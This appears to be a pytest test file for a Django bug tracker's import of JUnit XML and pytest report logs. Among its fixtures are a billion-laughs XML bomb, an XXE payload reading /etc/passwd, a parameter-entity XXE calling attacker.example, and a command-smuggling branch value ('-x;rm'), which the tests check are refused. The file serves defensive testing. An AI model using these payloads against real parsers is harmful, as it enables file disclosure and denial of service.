@@ -1,0 +1,135 @@
+"""Reports from external CI: JUnit XML and pytest report logs, and the hostile ones refused."""
+
+from __future__ import annotations
+
+import io
+import json
+
+import pytest
+from django.test import override_settings
+
+from bugs.models import BugResult, Result, Run
+from bugs.parsers import ReportFormatError, node_id_from_junit, parse_report
+from bugs.services import bug_create, bug_link_test
+
+pytestmark = pytest.mark.django_db
+
+JUNIT = b"""<?xml version="1.0" encoding="utf-8"?>
+<testsuites><testsuite name="pytest" tests="4">
+<testcase classname="tests.test_auth" name="test_ok" time="0.010"/>
+<testcase classname="tests.test_auth.TestTokens" name="test_alg_none[hs256]" time="0.020">
+  <failure message="AssertionError: accepted">Traceback...</failure></testcase>
+<testcase classname="tests.test_auth" name="test_skip" time="0"><skipped message="not here"/></testcase>
+<testcase classname="tests.test_auth" name="test_setup" time="0"><error message="fixture broke"/></testcase>
+</testsuite></testsuites>"""
+
+BILLION_LAUGHS = b"""<?xml version="1.0"?>
+<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
+<testsuite><testcase classname="a" name="&lol3;"/></testsuite>"""
+
+XXE = b"""<?xml version="1.0"?>
+<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
+<testsuite><testcase classname="a" name="&xxe;"/></testsuite>"""
+
+XXE_PARAMETER = b"""<?xml version="1.0"?>
+<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
+<testsuite/>"""
+
+
+def _log(*records: dict) -> bytes:
+    return b"".join(json.dumps(r).encode() + b"\n" for r in [{"$report_type": "SessionStart", "pytest_version": "9"}, *records])
+
+
+def _report(nodeid: str, when: str, outcome: str, **extra) -> dict:
+    return {"$report_type": "TestReport", "nodeid": nodeid, "when": when, "outcome": outcome, "duration": 0.1, **extra}
+
+
+@pytest.mark.parametrize(
+    ("classname", "name", "expected"),
+    [
+        ("tests.test_auth", "test_ok", "tests/test_auth.py::test_ok"),
+        ("tests.test_auth.TestTokens", "test_x[1]", "tests/test_auth.py::TestTokens::test_x[1]"),
+        ("test_top", "test_y", "test_top.py::test_y"),
+    ],
+)
+def test_it_rebuilds_node_ids_from_junit(classname, name, expected):
+    assert node_id_from_junit(classname, name, None) == expected
+
+
+def test_it_reads_junit_outcomes():
+    results = {r.node_id: r for r in parse_report(io.BytesIO(JUNIT))}
+    assert results["tests/test_auth.py::test_ok"].outcome == "passed"
+    failed = results["tests/test_auth.py::TestTokens::test_alg_none[hs256]"]
+    assert failed.outcome == "failed" and failed.message == "AssertionError: accepted"
+    assert results["tests/test_auth.py::test_skip"].outcome == "skipped"
+    assert results["tests/test_auth.py::test_setup"].outcome == "error"
+
+
+def test_a_report_log_keeps_reruns_and_marks_a_late_pass_flaky():
+    log = _log(
+        _report("t.py::test_a", "setup", "passed"),
+        _report("t.py::test_a", "call", "rerun", longrepr="boom"),
+        _report("t.py::test_a", "setup", "passed"),
+        _report("t.py::test_a", "call", "passed"),
+        _report("t.py::test_a", "teardown", "passed"),
+        _report("t.py::test_b", "setup", "passed"),
+        _report("t.py::test_b", "call", "failed", longrepr={"reprcrash": {"message": "assert 1 == 2"}, "reprtraceback": {"reprentries": []}}),
+        _report("t.py::test_b", "teardown", "passed"),
+    )
+    results = {r.node_id: r for r in parse_report(io.BytesIO(log))}
+    assert (results["t.py::test_a"].outcome, results["t.py::test_a"].attempts, results["t.py::test_a"].is_flaky) == ("passed", 2, True)
+    assert results["t.py::test_b"].outcome == "failed" and results["t.py::test_b"].message == "assert 1 == 2"
+
+
+@pytest.mark.parametrize("body", [BILLION_LAUGHS, XXE, XXE_PARAMETER, b"<testsuite><testcase", b"not a report at all", b"   "])
+def test_hostile_or_broken_reports_are_refused_by_the_parser(body):
+    with pytest.raises(ReportFormatError):
+        parse_report(io.BytesIO(body))
+
+
+def test_an_imported_junit_report_creates_a_finished_run_with_results_attached(staff_user, client_for):
+    bug = bug_create(key="BUG-001", title="alg none", severity="P0")
+    bug_link_test(bug=bug, node_id="tests/test_auth.py::TestTokens::test_alg_none[hs256]")
+    response = client_for(staff_user).post(
+        "/api/v1/runs/import/?commit_sha=abc1234&branch=main", data=JUNIT, content_type="application/xml"
+    )
+    assert response.status_code == 201, response.content
+    run = Run.objects.get(pk=response.json()["id"])
+    assert (run.status, run.total, run.passed, run.failed, run.errors, run.skipped) == ("failed", 4, 1, 1, 1, 1)
+    assert (run.trigger, run.commit_sha, run.branch) == ("import", "abc1234", "main")
+    assert BugResult.objects.get(bug=bug).result.outcome == "failed"
+
+
+def test_a_report_log_can_be_uploaded_as_a_multipart_file(staff_user, client_for):
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    log = _log(_report("t.py::test_a", "setup", "passed"), _report("t.py::test_a", "call", "passed"), _report("t.py::test_a", "teardown", "passed"))
+    response = client_for(staff_user).post("/api/v1/runs/import/", data={"file": SimpleUploadedFile("report.jsonl", log), "branch": "ci"}, format="multipart")
+    assert response.status_code == 201, response.content
+    assert response.json()["branch"] == "ci" and Result.objects.get().node_id == "t.py::test_a"
+
+
+@pytest.mark.parametrize("body", [BILLION_LAUGHS, XXE, XXE_PARAMETER])
+def test_hostile_junit_xml_is_refused_with_a_clear_400_and_nothing_stored(staff_user, client_for, body):
+    response = client_for(staff_user).post("/api/v1/runs/import/", data=body, content_type="application/xml")
+    assert response.status_code == 400
+    assert response.json()["error"]["code"] == "INVALID_REPORT"
+    assert not Run.objects.exists() and not Result.objects.exists()
+
+
+def test_a_report_over_the_size_limit_is_refused_with_413(staff_user, client_for):
+    from bugs.api.views import RunImportView
+
+    with override_settings(ATOM_MAX_UPLOAD_BYTES=10_000):
+        response = client_for(staff_user).post("/api/v1/runs/import/", data=b"<" + b"x" * 20_000, content_type="application/xml")
+    assert response.status_code == 413
+    assert RunImportView.max_body_bytes >= 50 * 1024 * 1024
+    assert not Run.objects.exists()
+
+
+@pytest.mark.parametrize("params", ["?commit_sha=not-a-sha", "?branch=-x;rm", "?suite=nope"])
+def test_bad_import_parameters_are_refused(staff_user, client_for, params):
+    response = client_for(staff_user).post(f"/api/v1/runs/import/{params}", data=JUNIT, content_type="application/xml")
+    assert response.status_code in (400, 404)
+    assert not Run.objects.exists()
